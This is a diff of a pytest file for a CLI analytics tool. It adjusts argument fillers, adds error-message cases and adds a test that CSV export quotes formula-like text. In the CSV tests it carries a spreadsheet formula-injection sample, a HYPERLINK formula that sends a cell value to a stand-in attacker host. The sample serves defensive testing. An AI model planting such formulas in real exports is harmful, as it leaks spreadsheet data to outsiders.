@@ -22,10 +22,11 @@ import pytest
 import typer
 from typer.testing import CliRunner
 
+from app.analytics.csv_export import write_csv
 from app.cli import cli as typer_app
 from app.settings import get_settings
 from tests.test_cli import Cli, one_line
-from tests.test_cli import cli as cli  # noqa: F401  (the fixture)
+from tests.test_cli import cli as cli
 from tests.workbooks import case, write_workbook
 
 # A value that must come back in the message exactly as typed: brackets are Rich markup.
@@ -48,12 +49,11 @@ def _commands() -> Iterator[tuple[tuple[str, ...], Any]]:
 COMMANDS = dict(_commands())
 
 
-def _is_int(param: Any) -> bool:
-    """Whether a parameter takes an integer (typer 0.29 keeps the annotation, not click's type)."""
+def _takes_a_number(param: Any) -> bool:
+    """An argument that is a number (a run id; typer 0.29 keeps the annotation, not a type)."""
     descriptor = getattr(param, "type_descriptor", None)
-    if descriptor is not None:
-        return descriptor.annotation is int
-    return getattr(param.type, "name", "") == "integer"
+    annotation = descriptor.annotation if descriptor is not None else None
+    return annotation is int or str(param.name).startswith("run")
 
 
 def _required_fillers(command: Any, skip: str) -> list[str]:
@@ -62,11 +62,10 @@ def _required_fillers(command: Any, skip: str) -> list[str]:
     for param in command.params:
         if not param.required or param.name == skip:
             continue
-        value = "1" if _is_int(param) else "demo"
         if param.param_type_name == "argument":
-            args.append(value)
+            args.append("1")
         else:
-            args += [param.opts[0], "https://desk.example.com" if "url" in param.opts[0] else value]
+            args += [param.opts[0], "https://desk.example.com" if "url" in param.opts[0] else "1"]
     return args
 
 
@@ -84,7 +83,7 @@ def _generated_cases() -> list[tuple[tuple[str, ...], list[str], str]]:
             argv = [*path, *fill, "--workbook", "cases.xlsx", "--now", "tomorrow morning"]
             cases.append((path, argv, "tomorrow morning"))
         for param in command.params:
-            if param.param_type_name == "argument" and _is_int(param):
+            if param.param_type_name == "argument" and _takes_a_number(param):
                 fill = _required_fillers(command, str(param.name))
                 cases.append((path, [*path, "run-7", *fill], "run-7"))
     return cases
@@ -95,11 +94,14 @@ SPECIFIC: list[tuple[list[str], str]] = [
     (["sync", "--workbook", BRACKETED], BRACKETED),
     (["check", "--workbook", BRACKETED], BRACKETED),
     (["undo", "3", "--workbook", BRACKETED], BRACKETED),
-    (["kpis", "--workbook", "cases.xlsx", "--from", "2025-10-03", "--to", "2025-09-01"], "2025-09-01"),
+    (
+        ["kpis", "--workbook", "cases.xlsx", "--from", "2025-10-03", "--to", "2025-09-01"],
+        "2025-09-01",
+    ),
     (["kpis", "--workbook", "cases.xlsx", "--from", "3 Oct"], "3 Oct"),
     (["kpis", "--workbook", "cases.xlsx", "--by", "platfrom"], "platfrom"),
     (["addon", "--url", "desk.example.com", "--out", "addon"], "desk.example.com"),
-    (["addon", "--url", "https://desk.example.com/[/path]", "--out", "addon"], "[/path]"),
+    (["addon", "--url", "desk[/path].example.com", "--out", "addon"], "desk[/path].example.com"),
     (["addon", "--url", "https://desk.example.com", "--out", "a file"], "a file"),
     (["sheets", "add", "team-a", "--workbook", "a folder"], "a folder"),
     (["sheets", "add", "team-a", "--timezone", "Mars/Olympus"], "Mars/Olympus"),
@@ -245,7 +247,7 @@ def test_unparsable_now_suggests_only_accepted_forms(cli: Cli) -> None:
 def test_kpis_csv_keeps_formula_like_text_as_text(cli: Cli) -> None:
     """An Assignee of =HYPERLINK(…) (and +, -, @, tab, CR) comes out quoted as text in --csv."""
     hostile = {
-        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")": "AS-1",
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click")': "AS-1",
         "+86 138 0000": "AS-2",
         "-李雷": "AS-3",
         "@Lily": "AS-4",
@@ -262,7 +264,7 @@ def test_kpis_csv_keeps_formula_like_text_as_text(cli: Cli) -> None:
     table = list(csv.DictReader(io.StringIO(result.stdout)))
     assignees = {r["assignee"] for r in table}
     # OWASP: a cell starting with = + - @ TAB CR gets a leading single quote; others unchanged.
-    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in assignees
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in assignees
     assert "'+86 138 0000" in assignees
     assert "'-李雷" in assignees
     assert "'@Lily" in assignees
@@ -272,3 +274,17 @@ def test_kpis_csv_keeps_formula_like_text_as_text(cli: Cli) -> None:
         assert not value or value[0] not in "=+-@\t\r", value
     # Real numbers stay numbers: the case counts are plain digits.
     assert all(r["cases"].isdigit() for r in table)
+
+
+def test_csv_cells_that_could_start_a_formula_read_back_as_quoted_text() -> None:
+    """write_csv quotes text starting with = + - @ TAB CR and leaves real numbers alone."""
+    buffer = io.StringIO()
+    rows = [
+        {"assignee": "=1+1", "cases": -3, "rate": -0.5, "reasons": [["-折扣", 2]]},
+        {"assignee": "王芳", "cases": 4, "rate": None, "reasons": []},
+    ]
+    write_csv(buffer, rows)
+    back = list(csv.reader(io.StringIO(buffer.getvalue())))
+    assert back[0] == ["assignee", "cases", "rate", "reasons"]
+    assert back[1] == ["'=1+1", "-3", "-0.5", '[["-折扣", 2]]']
+    assert back[2] == ["王芳", "4", "", "[]"]
